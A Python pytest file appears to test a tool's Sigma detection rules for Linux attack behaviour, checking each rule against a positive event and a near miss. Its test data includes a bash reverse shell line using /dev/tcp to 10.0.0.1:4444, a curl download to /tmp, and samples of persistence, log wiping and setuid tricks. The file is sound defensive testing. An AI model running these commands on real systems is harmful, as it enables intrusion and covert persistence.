"""Every shipped Sigma rule fires on what it describes and stays quiet on its near miss; a
denied attempt matches like a performed one and the hit says which; user rule folders add
rules, and a broken rule is reported with its file and reason, never fatal."""

from __future__ import annotations

from pathlib import Path

import pytest

from bubble.analysis import report, signatures

START = {"type": "process.spawn", "pid": 10, "exe": "/bin/sh", "argv": ["/bin/sh"],
         "ppid": 1, "action": "launcher.start", "user": "nobody", "cwd": "/tmp"}  # fmt: skip


def fs(syscall: str, path: str, *, allowed: bool = False, **extra) -> dict:
    kind = {"type": "fs.write", "decision": "ALLOW"} if allowed else {
        "type": "policy.alert", "reason": "errno", "denied": "EPERM"}  # fmt: skip
    return kind | {"pid": 10, "category": "fs", "syscall": syscall, "syscall_no": 0,
                   "path": path} | extra  # fmt: skip


def sys_call(syscall: str) -> dict:
    return {"type": "policy.alert", "pid": 10, "category": "sys", "syscall": syscall,
            "syscall_no": 0, "reason": "errno", "denied": "EPERM"}  # fmt: skip


def exec_(exe: str, *argv: str, pid: int = 11) -> dict:
    return {"type": "process.spawn", "pid": pid, "exe": exe, "argv": [exe, *argv],
            "ppid": 10, "syscall": "execve", "syscall_no": 59}  # fmt: skip


def connect(peer: str, port: int) -> dict:
    return {"type": "net.connect", "pid": 10, "category": "net", "syscall": "connect",
            "syscall_no": 42, "peer": peer, "port": port, "family": 2,
            "family_name": "AF_INET", "decision": "ALLOW"}  # fmt: skip


W = "O_WRONLY|O_CREAT|O_TRUNC"
# rule name -> (events that must fire it, events that must not)
CASES: dict[str, tuple[list[dict], list[dict]]] = {
    "cron_write": ([fs("openat", "/etc/cron.d/x", flags=W)],
                   [fs("openat", "/etc/crypttab", flags=W)]),
    "systemd_unit_write": ([fs("openat", "/etc/systemd/system/evil.service", flags=W)],
                           [fs("openat", "/etc/systemd/journald.conf.bak", flags=W)]),
    "shell_profile_write": ([fs("openat", "/home/u/.bashrc", flags="O_WRONLY|O_APPEND")],
                            [fs("openat", "/home/u/.bashrc.swp", flags=W)]),
    "ssh_authorized_keys": ([fs("openat", "/root/.ssh/authorized_keys", flags="O_WRONLY|O_APPEND")],
                            [fs("openat", "/root/.ssh/known_hosts", flags=W)]),
    "account_files_write": ([fs("rename", "/etc/.pw.tmp", path2="/etc/passwd")],
                            [fs("openat", "/etc/passwd.bak", flags=W)]),
    "account_files_permissions": ([fs("fchmodat", "/etc/shadow", mode=0o644)],
                                  [fs("fchmodat", "/etc/hostname", mode=0o644)]),
    "system_file_world_writable": ([fs("fchmodat", "/etc/passwd", mode=0o777)],
                                   [fs("fchmodat", "/tmp/scratch", mode=0o777)]),
    "log_deletion": ([fs("unlinkat", "/var/log/auth.log")],
                     [fs("unlinkat", "/var/lib/x.log")]),
    "history_cleared": ([fs("unlink", "/root/.bash_history")],
                        [fs("unlink", "/root/.bash_history_old")]),
    "history_truncated": ([fs("openat", "/root/.bash_history", flags=W)],
                          [fs("openat", "/root/.bash_history", flags="O_WRONLY|O_APPEND")]),
    "ld_preload": ([fs("openat", "/etc/ld.so.preload", flags=W)],
                   [fs("openat", "/etc/ld.so.cache~", flags=W)]),
    "exec_from_temp": ([exec_("/tmp/payload")], [exec_("/usr/bin/tmpreaper")]),
    "download_tool": ([exec_("/usr/bin/curl", "-o", "/tmp/p", "http://x/")],
                      [exec_("/usr/bin/curl", "--version")]),
    "chmod_exec_temp": ([fs("fchmodat", "/tmp/p", mode=0o755)],
                        [fs("fchmodat", "/tmp/p", mode=0o644)]),
    "setuid_bit": ([fs("chmod", "/tmp/sh", mode=0o4755)], [fs("chmod", "/tmp/sh", mode=0o755)]),
    "ptrace_other": ([sys_call("ptrace")], [sys_call("process_vm_writev")]),
    "kernel_module": ([sys_call("finit_module")], [sys_call("kexec_load")]),
    "timestomp": ([fs("utimensat", "/bin/ls")], [fs("fchmodat", "/bin/ls", mode=0o755)]),
    "sudoers_write": ([fs("openat", "/etc/sudoers.d/90-x", flags=W)],
                      [fs("openat", "/etc/sudo.conf.bak", flags=W)]),
    "mount_attempt": ([sys_call("mount")], [sys_call("sethostname")]),
    "bpf_load": ([sys_call("bpf")], [sys_call("perf_event_open")]),
    "reverse_shell": ([exec_("/bin/bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")],
                      [exec_("/bin/bash", "-c", "echo hello > /tmp/tcp")]),
    "suspicious_port": ([connect("127.0.0.1", 4444)], [connect("127.0.0.1", 443)]),
}  # fmt: skip


@pytest.fixture(scope="module")
def ruleset() -> signatures.RuleSet:
    return signatures.load()


def run_rules(ruleset, events: list[dict]) -> dict[str, dict]:
    stream = [START, *events]
    numbered = [e | {"seq": i + 1, "ts": "2026-01-01T00:00:00.000Z"} for i, e in enumerate(stream)]
    rep = report.build(numbered, ruleset=ruleset)
    return {hit["id"].removeprefix("bubble_"): hit for hit in rep["signatures"]}


def test_every_shipped_rule_has_a_case_and_an_attack_id(ruleset):
    names = {r.id.removeprefix("bubble_") for r in ruleset.rules}
    assert len(names) >= 15 and not ruleset.errors
    assert names == set(CASES), names ^ set(CASES)
    assert all(r.attack and r.attack[0].startswith("T") for r in ruleset.rules)


@pytest.mark.parametrize("name", sorted(CASES))
def test_rule_fires_on_its_positive(ruleset, name):
    hits = run_rules(ruleset, CASES[name][0])
    assert name in hits, sorted(hits)
    assert hits[name]["events"] == [2]


@pytest.mark.parametrize("name", sorted(CASES))
def test_rule_quiet_on_its_negative(ruleset, name):
    assert name not in run_rules(ruleset, CASES[name][1])


def test_denied_and_performed_attempts_both_match_and_say_which(ruleset):
    denied = run_rules(ruleset, [fs("openat", "/etc/cron.d/a", flags=W)])["cron_write"]
    done = run_rules(ruleset, [fs("openat", "/etc/cron.d/a", flags=W, allowed=True)])
    both = run_rules(
        ruleset,
        [
            fs("openat", "/etc/cron.d/a", flags=W),
            fs("openat", "/etc/cron.d/b", flags=W, allowed=True),
        ],
    )
    assert denied["outcome"] == "denied" and denied["denied"] == 1
    assert done["cron_write"]["outcome"] == "performed"
    assert both["cron_write"]["outcome"] == "mixed" and both["cron_write"]["events"] == [2, 3]


CUSTOM = """\
title: Payload marker file
name: local_marker
id: 0b7a3c4e-1f2a-4c6b-8d9e-0a1b2c3d4e5f
tags: [attack.t1105]
logsource: {product: linux, category: file_event}
detection:
  selection:
    TargetFilename|endswith: /marker.bin
  condition: selection
level: low
"""
BROKEN = """\
title: Broken
logsource: {product: linux, category: file_event}
detection:
  selection:
    TargetFilename: /x
  condition: selection and missing_one
"""
WINDOWS = """\
title: Another product's rule
logsource: {product: windows, category: process_creation}
detection:
  selection: {Image|endswith: '\\\\cmd.exe'}
  condition: selection
"""


def test_user_rules_dir_custom_rule_fires_and_broken_rule_is_reported(tmp_path: Path):
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "marker.yml").write_text(CUSTOM)
    (tmp_path / "broken.yml").write_text(BROKEN)
    (tmp_path / "not_yaml.yaml").write_text("title: [unclosed\n")
    (tmp_path / "windows.yml").write_text(WINDOWS)
    rules = signatures.load([tmp_path])
    hits = run_rules(rules, [fs("openat", "/srv/marker.bin", flags=W)])
    assert hits["local_marker"]["attack"] == ["T1105"]
    assert hits["local_marker"]["rule_file"].endswith("sub/marker.yml")
    files = {Path(e["file"]).name: e["reason"] for e in rules.errors}
    assert set(files) == {"broken.yml", "not_yaml.yaml"}, rules.errors
    assert "missing_one" in files["broken.yml"]
    assert [Path(s["file"]).name for s in rules.skipped] == ["windows.yml"]
    assert len(rules.rules) == len(CASES) + 1  # Bubble's own still load


def test_missing_rules_dir_is_reported_not_fatal(tmp_path: Path):
    rules = signatures.load([tmp_path / "nope"])
    assert rules.errors == [{"file": str(tmp_path / "nope"), "reason": "not a directory"}]
    assert len(rules.rules) == len(CASES)
